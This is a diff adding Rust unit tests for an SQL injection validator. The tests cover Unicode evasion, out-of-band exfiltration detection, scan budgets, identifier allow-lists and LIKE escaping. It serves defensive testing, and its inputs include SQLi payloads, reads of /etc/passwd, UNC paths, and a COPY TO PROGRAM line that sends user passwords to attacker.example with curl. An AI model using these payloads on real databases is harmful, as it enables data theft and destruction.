+    fn test_validate_and_sanitize() {
+        // Valid input comes back trimmed and free of control characters; invalid input still errors.
+        let validator = SqliValidator::default();
+        let clean = validator.validate_and_sanitize("  ali\u{0}ce\r\n ").unwrap();
+        assert_eq!(clean.as_str(), "alice");
+        assert_eq!(validator.validate_and_sanitize("alice").unwrap(), clean);
+        assert!(validator.validate_and_sanitize(" ' OR 1=1-- ").is_err());
+        assert_eq!(validator.validate_and_sanitize("\t\u{7}"), Err(ValidationError::EmptyInput));
+    }
+
+    #[test]
+    fn test_bidi_controls_rejected_in_strict_mode() {
+        // An RLO or a BOM fails strict validation; lenient mode strips them and still sees the keyword.
+        let strict = SqliValidator::default();
+        assert_eq!(strict.validate("admin\u{202E}--'"), Err(ValidationError::BidiControlCharacter));
+        assert_eq!(strict.validate("\u{FEFF}alice"), Err(ValidationError::BidiControlCharacter));
+        assert_eq!(strict.validate("alice"), Ok(()));
+        assert!(crate::validate_input("report\u{202E}fdp.exe").is_err());
+        assert_eq!(strip_bidi_controls("alice"), Cow::Borrowed("alice"));
+
+        let lenient = SqliValidator::new(SqliValidatorConfig { reject_bidi_controls: false, ..Default::default() }).unwrap();
+        assert!(matches!(
+            lenient.validate("x UN\u{202E}ION y"),
+            Err(ValidationError::SqlPatternDetected { rule: "keyword", .. })
+        ));
+        assert_eq!(lenient.validate_and_sanitize("\u{FEFF}alice\u{2066}").unwrap().as_str(), "alice");
+    }
+
+    #[test]
+    fn test_fullwidth_keywords_folded_before_matching() {
+        // NFKC turns fullwidth keywords and quotes back into ASCII, so the usual rules catch them.
+        let union = "\u{FF35}\u{FF2E}\u{FF29}\u{FF2F}\u{FF2E}";
+        let select = "\u{FF33}\u{FF25}\u{FF2C}\u{FF25}\u{FF23}\u{FF34}";
+        assert_eq!(normalize_input(union), "UNION");
+        assert_eq!(normalize_input("admin\u{FF07}\u{FF0D}\u{FF0D}"), "admin'--");
+
+        let validator = SqliValidator::default();
+        for attack in [format!("x {} {} password", union, select), format!("1 \u{FF55}nion {}", select)] {
+            assert!(matches!(
+                validator.validate(&attack),
+                Err(ValidationError::SqlPatternDetected { rule: "keyword", .. })
+            ), "{}", attack);
+        }
+        assert!(validator.validate("admin\u{FF07}\u{FF0D}\u{FF0D}").is_err());
+        assert_eq!(validator.matched_signatures(union)[0].span, 0..5); // Span in the folded text
+
+        // Non-ASCII names that are already NFKC pass untouched
+        assert_eq!(validator.validate("Jos\u{E9} \u{141}ukasz"), Ok(()));
+        assert_eq!(normalized("Jos\u{E9}"), Cow::Borrowed("Jos\u{E9}"));
+    }
+
+    #[test]
+    fn test_jsonb_operator_abuse_toggle() {
+        // Opt-in rule catches jsonb operators and path functions but lets plain JSON through.
+        let validator = SqliValidator::new(SqliValidatorConfig {
+            detect_jsonb_operators: true,
+            ..Default::default()
+        })
+        .unwrap();
+        let payload = r#"x' OR data @> '{"admin":true}'"#;
+        let hit = validator.matched_signatures(payload).into_iter().find(|h| h.rule_name == "jsonb-operator-abuse");
+        assert_eq!(hit.unwrap().matched_text, "@>");
+        assert!(matches!(
+            validator.validate("data #>> path"),
+            Err(ValidationError::SqlPatternDetected { rule: "jsonb-operator-abuse", .. })
+        ));
+        assert!(validator.validate("jsonb_path_query(data, '$.**')").is_err());
+        assert_eq!(validator.validate(r#"{"name":"alice","tags":["a","b"],"admin":false}"#), Ok(()));
+
+        // Off by default, so the same fragment only trips the generic rules.
+        assert!(!SqliValidator::default().matched_signatures(payload).iter().any(|h| h.rule_name == "jsonb-operator-abuse"));
+    }
+
+    #[test]
+    fn test_out_of_band_exfil_detected() {
+        // COPY ... TO PROGRAM and UNC paths are flagged; an ordinary file path is not.
+        let validator = SqliValidator::default();
+        let oob = |input: &str| {
+            validator.matched_signatures(input).into_iter().find(|h| h.rule_name == "out-of-band-exfil")
+        };
+        let copy = oob("1; COPY (SELECT password FROM users) TO PROGRAM 'curl https://attacker.example/?d=x'").unwrap();
+        assert!(copy.matched_text.to_lowercase().ends_with("to program"));
+        assert_eq!(oob(r"1; EXEC master..xp_dirtree '\\attacker.com\a'").unwrap().rule_name, "out-of-band-exfil");
+        assert_eq!(oob(r"\\attacker.com\share").unwrap().matched_text, r"\\attacker.com\");
+        assert!(oob("x' || lo_import('/etc/passwd')").is_some());
+        assert!(oob("dblink('host=evil', 'select 1')").is_some());
+
+        assert!(oob(r"C:\Users\alice\Documents\report.pdf").is_none());
+        assert_eq!(validator.validate(r"C:\Users\alice\Documents\report.pdf"), Ok(()));
+        assert!(oob("/home/alice/copy of program notes.txt").is_none());
+    }
+
+    #[test]
+    fn test_canonicalize_email_case_variants() {
+        // Case and surrounding whitespace don't produce distinct addresses.
+        let canonical = canonicalize_email("user@example.com").unwrap();
+        assert_eq!(canonicalize_email("  User@Example.COM\n").unwrap(), canonical);
+        assert_eq!(canonicalize_email("USER@EXAMPLE.COM").unwrap(), canonical);
+        assert_eq!(canonicalize_email_with("User@Example.COM", false).unwrap(), "User@example.com");
+        assert_eq!(canonicalize_email("first.last+tag@mail.example.org").unwrap(), "first.last+tag@mail.example.org");
+    }
+
+    #[test]
+    fn test_canonicalize_email_rejects_invalid() {
+        // Structurally broken addresses are refused; blanks keep their own error.
+        for bad in ["no-at-sign", "@example.com", "user@", "user@localhost", "a..b@example.com", "user@-bad.com", "us er@example.com", "x'--@example.com"] {
+            assert_eq!(canonicalize_email(bad), Err(ValidationError::InvalidEmail), "{bad:?}");
+        }
+        assert_eq!(canonicalize_email("  "), Err(ValidationError::EmptyInput));
+    }
+
+    #[test]
+    fn test_oversized_field_skips_scan() {
+        // A 5 MB field is refused up front: a spent budget would turn any rule pass into ScanTimeout.
+        let spent_budget = SqliValidatorConfig { scan_budget: Some(Duration::ZERO), ..Default::default() };
+        let validator = SqliValidator::new(spent_budget).unwrap();
+        let huge = format!("{}' OR 1=1--", "a".repeat(5 * 1024 * 1024));
+        let output = crate::test_support::capture_logs(|| {
+            assert_eq!(
+                validator.validate(&huge),
+                Err(ValidationError::FieldTooLargeToScan { len: huge.len(), max: DEFAULT_MAX_SCAN_BYTES })
+            );
+        });
+        assert_eq!(output, "");
+        assert_eq!(validator.validate("alice"), Err(ValidationError::ScanTimeout));
+    }
+
+    #[test]
+    fn test_field_under_scan_cap_is_scanned_fully() {
+        // A payload at the very end of a large-but-allowed field is still found.
+        let validator = SqliValidator::new(SqliValidatorConfig { max_len: usize::MAX, ..Default::default() }).unwrap();
+        let padded = format!("{}; SHUTDOWN", "a".repeat(DEFAULT_MAX_SCAN_BYTES - 16));
+        assert!(matches!(validator.validate(&padded), Err(ValidationError::SqlPatternDetected { .. })));
+        assert_eq!(validator.validate(&"a".repeat(DEFAULT_MAX_SCAN_BYTES)), Ok(()));
+    }
+
+    #[test]
+    fn test_exhausted_scan_budget_stops_before_next_rule() {
+        // A spent budget is seen at the next between-rule check; the default has no budget at all.
+        let spent = SqliValidator::new(SqliValidatorConfig { scan_budget: Some(Duration::ZERO), ..Default::default() })
+            .unwrap();
+        assert_eq!(spent.validate("alice"), Err(ValidationError::ScanTimeout));
+        assert_eq!(SqliValidatorConfig::default().scan_budget, None);
+        assert_eq!(SqliValidator::default().validate("alice"), Ok(()));
+    }
+
+    #[test]
+    fn test_expensive_custom_pattern_times_out() {
+        // Unicode word boundaries on non-ASCII text force the slow regex engine;
+        // the budget turns that slow miss into ScanTimeout instead of a pass.
+        let expensive = |scan_budget| SqliValidatorConfig {
+            custom_patterns: vec![r"(?:\b\w+\b\s*){1,10}Q".into()],
+            max_len: usize::MAX,
+            scan_budget,
+            ..Default::default()
+        };
+        let input = "ab cé ".repeat(DEFAULT_MAX_SCAN_BYTES / 7);
+        let output = crate::test_support::capture_logs(|| {
+            let budgeted = SqliValidator::new(expensive(Some(Duration::from_millis(5)))).unwrap();
+            assert_eq!(budgeted.validate(&input), Err(ValidationError::ScanTimeout));
+        });
+        assert!(output.contains("SQLi scan budget exceeded"), "{output}");
+        assert_eq!(SqliValidator::new(expensive(None)).unwrap().validate(&input), Ok(()));
+    }
+
+    #[test]
+    fn test_oversized_custom_pattern_refused_at_build() {
+        // Stacked bounded repeats compile to a huge program and are refused up front.
+        let config =
+            |pattern: &str| SqliValidatorConfig { custom_patterns: vec![pattern.into()], ..Default::default() };
+        assert!(matches!(SqliValidator::new(config(r"(\w{100}){100}")), Err(regex::Error::CompiledTooBig(_))));
+        assert!(SqliValidator::new(config(r"\bacct-\d{6}\b")).is_ok());
+    }
+
+    #[test]
+    fn test_validate_identifier() {
+        // Plain and schema-qualified names pass; anything carrying SQL syntax does not.
+        assert_eq!(validate_identifier("created_at"), Ok(()));
+        assert_eq!(validate_identifier("public.users"), Ok(()));
+        for bad in ["name; DROP TABLE users", "name DESC--", "na\"me", "1col", "a.b.c", "name)", &"x".repeat(64)] {
+            assert_eq!(validate_identifier(bad), Err(ValidationError::InvalidIdentifier), "{bad:?}");
+        }
+        assert_eq!(validate_identifier(" "), Err(ValidationError::EmptyInput));
+    }
+
+    #[test]
+    fn test_safe_order_by_allow_list() {
+        // Only allow-listed columns come back, as the allow-list spells them.
+        let allowed = ["username", "created_at"];
+        assert_eq!(safe_order_by("USERNAME", &allowed), Ok("username"));
+        assert_eq!(safe_order_by("password_hash", &allowed), Err(ValidationError::IdentifierNotAllowed));
+        assert_eq!(safe_order_by("name; DROP", &allowed), Err(ValidationError::InvalidIdentifier));
+        assert_eq!(safe_order_by("name DESC--", &allowed), Err(ValidationError::InvalidIdentifier));
+    }
+
+    #[test]
+    fn test_escape_like_pattern() {
+        // Wildcards and the escape character itself are escaped; everything else is untouched.
+        assert_eq!(escape_like_pattern("100%_done"), r"100\%\_done");
+        assert_eq!(escape_like_pattern(r"C:\temp"), r"C:\\temp");
+        assert_eq!(escape_like_pattern("alice"), "alice");
+    }
+}